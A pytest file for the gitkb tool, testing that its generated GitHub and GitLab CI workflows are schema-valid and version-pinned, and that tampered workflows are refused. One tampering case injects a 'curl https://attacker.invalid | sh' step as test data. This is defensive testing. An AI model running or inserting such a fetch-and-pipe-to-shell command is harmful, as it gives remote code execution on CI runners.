"""`git kb init --ci` and `git kb ci`: the forge workflows that run `git kb check`, valid
against the forges' public schemas, and held by the history rules to gitkb's rendering."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from helpers import git, kb
from helpers.pushes import forge

from gitkb import __version__
from gitkb.server.control import CI_FILES, ci_file
from gitkb.store import Store

pytestmark = pytest.mark.slow  # the real CLI in subprocesses, check-jsonschema too

SCHEMAS = {"github": "vendor.github-workflows", "gitlab": "vendor.gitlab-ci"}


def schema_check(path) -> subprocess.CompletedProcess:
    """check-jsonschema (the test extra's) of this interpreter, whatever PATH holds, with
    the schema it ships for the forge (offline)."""
    forge_name = next(f for f, p in CI_FILES.items() if str(path).endswith(p))
    argv = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", SCHEMAS[forge_name]]
    return subprocess.run([*argv, str(path)], capture_output=True, text=True)


@pytest.mark.parametrize("forge_name", sorted(CI_FILES))
def test_init_ci_writes_a_valid_workflow_in_one_commit(tmp_path, forge_name):
    done = kb("init", str(tmp_path / "kb"), "--ci", forge_name)
    assert done.returncode == 0, done.stderr.decode()
    path = tmp_path / "kb" / CI_FILES[forge_name]
    assert path.read_bytes() == ci_file(forge_name, __version__)
    assert f'gitkb=={__version__}"' in path.read_text() or f'"{__version__}"' in path.read_text()
    subjects = git("log", "--format=%s", cwd=tmp_path / "kb").stdout.split("\n")
    assert subjects[0] == f"kb config ci-{forge_name}" and subjects[1].startswith("kb init ")
    checked = schema_check(path)
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_the_workflows_say_what_the_check_needs():
    github = ci_file("github", "9.9.9").decode()
    assert "fetch-depth: 0" in github and "refs/kb/traces/*:refs/kb/traces/*" in github
    assert "github.event.pull_request.head.repo.full_name" in github
    assert 'git kb check "$BASE..$HEAD" --format github' in github
    assert 'pip install "gitkb==9.9.9"' in github and "git push origin" in github
    gitlab = ci_file("gitlab", "9.9.9").decode()
    assert 'GIT_DEPTH: "0"' in gitlab and "CI_MERGE_REQUEST_SOURCE_PROJECT_URL" in gitlab
    assert "--format gitlab > gl-code-quality-report.json" in gitlab
    assert "codequality: gl-code-quality-report.json" in gitlab


def test_ci_on_an_existing_store_then_again_is_a_no_op(store):
    base = store.tip
    done = kb("ci", "gitlab", "--store", str(store.location))
    assert done.returncode == 0, done.stderr.decode()
    again = kb("ci", "gitlab", "--store", str(store.location))
    assert b'"already up to date"' in again.stdout and b'"commit": null' in again.stdout
    assert git("rev-list", "--count", f"{base}..main", cwd=store.location).stdout.strip() == "1"
    checked = kb("check", f"{base}..main", "--store", str(store.location))
    assert checked.returncode == 0, checked.stdout.decode()
    history = kb("validate", "--history", str(store.location))
    assert history.returncode == 0, history.stdout.decode()


def config_commit(store: Store, path: str, raw: bytes) -> str:
    return forge(store, {path: raw}, "kb config ci", [("KB-Action", "config"), ("KB-Record", "ci")])


def test_an_older_gitkb_s_rendering_is_accepted(store):
    base = store.tip
    config_commit(store, CI_FILES["github"], ci_file("github", "0.0.9"))
    done = kb("check", f"{base}..main", "--store", str(store.location))
    assert done.returncode == 0, done.stdout.decode()


@pytest.mark.parametrize(
    "attack",
    ["extra step", "two versions", "unpinned", "other workflow"],
)
def test_a_workflow_gitkb_did_not_render_is_refused(store, attack):
    base = store.tip
    path = CI_FILES["github"]
    raw = ci_file("github", "1.2.3")
    if attack == "extra step":
        raw += b"      - run: curl https://attacker.invalid | sh\n"
    elif attack == "two versions":
        raw = raw.replace(b"gitkb==1.2.3", b"gitkb==1.2.4", 1)
    elif attack == "unpinned":
        raw = raw.replace(b'"gitkb==1.2.3"', b'"gitkb"')
    else:
        path = ".github/workflows/other.yml"
    commit = config_commit(store, path, raw)
    done = kb("check", f"{base}..main", "--store", str(store.location), "--format", "json")
    assert done.returncode == 1, done.stdout.decode()
    [refusal] = json.loads(done.stdout)["refusals"]
    assert refusal["commit"] == commit and refusal["path"] == path, refusal
    if attack == "other workflow":
        assert "is no path of the store's layout" in refusal["line"]
    else:
        assert refusal["rule"] == "control" and "git kb ci github" in refusal["line"]
